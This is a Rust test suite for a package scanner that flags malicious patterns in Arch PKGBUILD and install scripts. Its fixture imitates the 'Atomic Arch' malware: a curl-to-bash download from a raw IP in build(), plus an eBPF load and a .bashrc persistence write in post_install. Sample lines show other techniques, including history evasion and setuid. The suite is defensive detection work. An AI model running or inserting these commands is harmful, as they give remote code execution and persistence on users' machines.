use vouch::package::{Decision, Finding, Severity};
use vouch::recipe::{SourceBundle, SourceFile};
use vouch::scan::{
    evaluate, extract_functions, function_findings, functions_at, line_findings, line_offset, rules,
    tool_offset, ShellFunc,
};
use vouch::score;

fn ids(findings: &[Finding]) -> Vec<&str> {
    findings.iter().map(|f| f.id.as_str()).collect()
}

// Mimics the "Atomic Arch" PKGBUILD + .install payload shape.
fn malicious_bundle() -> SourceBundle {
    let pkgbuild = r#"
pkgname=totally-legit
build() {
    cd "$srcdir"
    curl https://1.2.3.4/x.sh | bash
}
package() {
    npm install atomic-lockfile minimist chalk
}
"#;
    let install = r#"
post_install() {
    bpftool prog load hide.o /sys/fs/bpf/x
    echo 'evil' >> ~/.bashrc
}
"#;
    SourceBundle {
        package_base: "totally-legit".into(),
        pkgbuild: pkgbuild.into(),
        install_files: vec![SourceFile {
            name: "totally-legit.install".into(),
            content: install.into(),
        }],
    }
}

#[test]
fn detects_atomic_arch_signatures_and_refuses() {
    let findings = evaluate(&malicious_bundle());
    let got = ids(&findings);
    assert!(
        got.contains(&"scan.js-pkg-install"),
        "should flag npm install"
    );
    assert!(got.contains(&"scan.pipe-to-shell"), "should flag curl|bash");
    assert!(got.contains(&"scan.ebpf"), "should flag eBPF rootkit");
    assert!(
        got.contains(&"scan.net-in-build"),
        "should flag net in build()"
    );
    assert!(
        got.contains(&"scan.persistence"),
        "should flag .bashrc write"
    );
    assert!(
        got.contains(&"scan.install-hook"),
        "should flag root install hook"
    );

    assert!(findings.iter().any(|f| f.severity == Severity::Critical));
    let verdict = score::build_verdict("totally-legit", findings);
    assert_eq!(verdict.decision, Decision::Refused);
}

fn bundle(pkgbuild: &str) -> SourceBundle {
    SourceBundle {
        package_base: "x".into(),
        pkgbuild: pkgbuild.into(),
        install_files: vec![],
    }
}

#[test]
fn clean_recipe_has_no_findings() {
    let bundle = SourceBundle {
        package_base: "clean".into(),
        pkgbuild: "pkgname=clean\nbuild() {\n  make\n}\npackage() {\n  make DESTDIR=\"$pkgdir\" install\n}\n".into(),
        install_files: vec![],
    };
    assert!(evaluate(&bundle).is_empty(), "clean recipe should be clean");
}

#[test]
fn ftp_in_sed_is_not_a_network_call() {
    // Regression: `ftp` inside a sed expression must not match net-in-build.
    let bundle = SourceBundle {
        package_base: "x".into(),
        pkgbuild: "package() {\n  sed -e 's/x-scheme-handler\\/ftp;//g' file\n}\n".into(),
        install_files: vec![],
    };
    assert!(!ids(&evaluate(&bundle)).contains(&"scan.net-in-build"));
}

#[test]
fn findings_come_file_by_file_with_places() {
    let findings = evaluate(&malicious_bundle());
    let got: Vec<(&str, &str)> = findings
        .iter()
        .map(|f| (f.id.as_str(), f.location.as_deref().unwrap()))
        .collect();
    assert_eq!(
        got,
        vec![
            ("scan.pipe-to-shell", "PKGBUILD:5"),
            ("scan.raw-ip-download", "PKGBUILD:5"),
            ("scan.js-pkg-install", "PKGBUILD:8"),
            ("scan.net-in-build", "PKGBUILD:5"),
            ("scan.ebpf", "totally-legit.install:3"),
            ("scan.persistence", "totally-legit.install:4"),
            ("scan.install-hook", "totally-legit.install:2"),
        ]
    );
    assert_eq!(findings[3].title, "Network access inside build()");
    assert_eq!(
        findings[6].title,
        "Defines a post_install() hook (runs as root)"
    );
}

#[test]
fn every_line_rule_matches_its_technique() {
    let samples = [
        ("scan.js-pkg-install", "yarn add x", Severity::Critical),
        ("scan.pip-install", "pip3 install requests", Severity::High),
        ("scan.pipe-to-shell", "wget -qO- x | sudo zsh", Severity::Critical),
        ("scan.ebpf", "cat /sys/fs/bpf/x", Severity::Critical),
        ("scan.base64-decode", "base64 --decode x", Severity::High),
        ("scan.eval", "eval \"$x\"", Severity::Medium),
        ("scan.setuid", "chmod 4755 f", Severity::High),
        ("scan.persistence", "cp x /etc/cron.d/", Severity::High),
        ("scan.suspicious-host", "https://transfer.sh/x", Severity::High),
        ("scan.raw-ip-download", "http://10.0.0.1/x", Severity::Medium),
        ("scan.history-evasion", "unset HISTFILE", Severity::Medium),
    ];
    assert_eq!(rules().len(), samples.len());
    for (i, (id, line, severity)) in samples.iter().enumerate() {
        let found = evaluate(&bundle(line));
        assert_eq!(ids(&found), vec![*id], "line {line}");
        assert_eq!(found[0].severity, *severity);
        assert_eq!(found[0].location.as_deref(), Some("PKGBUILD:1"));
        assert_eq!(rules()[i].id, *id);
        assert_eq!(found[0].title, rules()[i].title);
        assert_eq!(found[0].detail, rules()[i].detail);
    }
}

#[test]
fn comments_are_skipped() {
    assert!(evaluate(&bundle("  # eval x\n")).is_empty());
    assert_eq!(ids(&evaluate(&bundle("true # eval x\n"))), vec!["scan.eval"]);
}

#[test]
fn line_findings_follow_the_hits() {
    let mut hits = vec![false; 11];
    hits[5] = true;
    hits[0] = true;
    let found = line_findings("f", 7, "anything", &hits);
    assert_eq!(ids(&found), vec!["scan.js-pkg-install", "scan.eval"]);
    assert_eq!(found[1].location.as_deref(), Some("f:7"));
    assert!(line_findings("f", 7, " # anything", &hits).is_empty());
    assert!(line_findings("f", 7, "anything", &vec![false; 11]).is_empty());
}

#[test]
fn both_function_forms_are_found() {
    let funcs = extract_functions("a() {\n x\n}\nfunction b {\n y\n}\nfunction c() { z; }\n");
    let got: Vec<(&str, usize, &str)> = funcs
        .iter()
        .map(|f| (f.name.as_str(), f.start_line, f.body.as_str()))
        .collect();
    assert_eq!(
        got,
        vec![("a", 1, "\n x\n"), ("b", 4, "\n y\n"), ("c", 7, " z; ")]
    );
}

#[test]
fn bodies_end_at_the_matching_brace() {
    let funcs = extract_functions("\n\nü() { }\nf () {\n if x; then { é; }; fi\n}\ng() { open\n");
    let got: Vec<(&str, usize, &str)> = funcs
        .iter()
        .map(|f| (f.name.as_str(), f.start_line, f.body.as_str()))
        .collect();
    assert_eq!(got, vec![("f", 4, "\n if x; then { é; }; fi\n")]);
}

#[test]
fn functions_start_behind_their_headers() {
    let content = "x{a{b}c}d{";
    let headers = vec![
        (Some("one".to_string()), None, 0, 2),
        (None, Some("two".to_string()), 3, 4),
        (Some("open".to_string()), None, 8, 10),
    ];
    let funcs = functions_at(content, &headers);
    assert_eq!(funcs.len(), 2);
    assert_eq!((funcs[0].name.as_str(), funcs[0].body.as_str()), ("one", "a{b}c"));
    assert_eq!((funcs[1].name.as_str(), funcs[1].body.as_str()), ("two", "b"));
    assert_eq!(funcs[1].start_line, 1);
}

#[test]
fn function_findings_depend_on_the_name() {
    let func = |name: &str| ShellFunc {
        name: name.to_string(),
        start_line: 9,
        body_line: 10,
        body: "\n\ncurl x; git\n clone\n".to_string(),
    };
    // The call is matched from the start of the body, its tool is on a later line.
    let found = function_findings("f", &func("package"), Some((0, Some(2))));
    assert_eq!(ids(&found), vec!["scan.net-in-build"]);
    assert_eq!(found[0].location.as_deref(), Some("f:12"));
    assert_eq!(found[0].severity, Severity::High);
    assert!(function_findings("f", &func("package"), None).is_empty());
    // Without a captured tool the call starts with it.
    let found = function_findings("f", &func("package"), Some((10, None)));
    assert_eq!(found[0].location.as_deref(), Some("f:12"));
    assert!(function_findings("f", &func("helper"), Some((0, Some(2)))).is_empty());
    let found = function_findings("f", &func("pre_remove"), Some((0, Some(2))));
    assert_eq!(ids(&found), vec!["scan.install-hook"]);
    assert_eq!(found[0].location.as_deref(), Some("f:9"));
    assert_eq!(found[0].severity, Severity::Medium);
    assert_eq!(tool_offset((3, Some(7))), 7);
    assert_eq!(tool_offset((3, None)), 3);
}

#[test]
fn functions_open_on_the_line_of_their_name() {
    let funcs = extract_functions("\n\npost_install()\n{\n x\n}\n\n \u{a0}\tfunction f\n\n{ y; }\n");
    let got: Vec<(&str, usize, usize)> = funcs
        .iter()
        .map(|f| (f.name.as_str(), f.start_line, f.body_line))
        .collect();
    assert_eq!(got, vec![("post_install", 3, 4), ("f", 8, 10)]);

    let found = evaluate(&bundle("post_install()\n{\n  true\n}\n"));
    assert_eq!(ids(&found), vec!["scan.install-hook"]);
    assert_eq!(found[0].location.as_deref(), Some("PKGBUILD:1"));
}

#[test]
fn network_tools_count_in_command_position_only() {
    let in_build = |body: &str| {
        ids(&evaluate(&bundle(&format!("build() {{\n{body}\n}}\n")))).contains(&"scan.net-in-build")
    };
    assert!(in_build("  rsync a b"));
    assert!(in_build("  true && socat x"));
    assert!(in_build("  git clone https://x/y"));
    assert!(!in_build("  echo curl"));
    // Outside of the build functions a call is no finding of this kind.
    assert!(!ids(&evaluate(&bundle("helper() {\n rsync a b\n}\n"))).contains(&"scan.net-in-build"));
}

#[test]
fn network_calls_are_placed_at_the_tool() {
    let found = evaluate(&bundle("build() {\n  curl -O https://h/x\n}\n"));
    assert_eq!(ids(&found), vec!["scan.net-in-build"]);
    assert_eq!(found[0].severity, Severity::High);
    assert_eq!(found[0].title, "Network access inside build()");
    assert_eq!(found[0].location.as_deref(), Some("PKGBUILD:2"));

    let place = |recipe: &str| evaluate(&bundle(recipe)).remove(0).location.unwrap();
    // After blank lines, on the line after `&&`, and on the header's own line.
    assert_eq!(place("\nbuild() {\n\n\n  wget x\n}\n"), "PKGBUILD:5");
    assert_eq!(place("build() {\n  true &&\n  wget x\n}\n"), "PKGBUILD:3");
    assert_eq!(place("build() { wget x; }\n"), "PKGBUILD:1");
    assert_eq!(place("build() {\n  true\n  git clone x\n}\n"), "PKGBUILD:3");
    // A command over several lines is placed where it starts, and the lines are
    // those of the file wherever the brace stands.
    assert_eq!(place("build() {\n  true\n  git\n  clone x\n}\n"), "PKGBUILD:3");
    assert_eq!(place("build()\n{\n  wget x\n}\n"), "PKGBUILD:3");
}

#[test]
fn lines_are_counted_before_an_offset() {
    assert_eq!(line_offset("a\nb\nc", 0), 0);
    assert_eq!(line_offset("a\nb\nc", 2), 1);
    assert_eq!(line_offset("a\nb\nc", 4), 2);
    assert_eq!(line_offset("a\nb\nc", 99), 2);
    assert_eq!(line_offset("é\n", 2), 0);
    assert_eq!(line_offset("é\n", 3), 1);
}
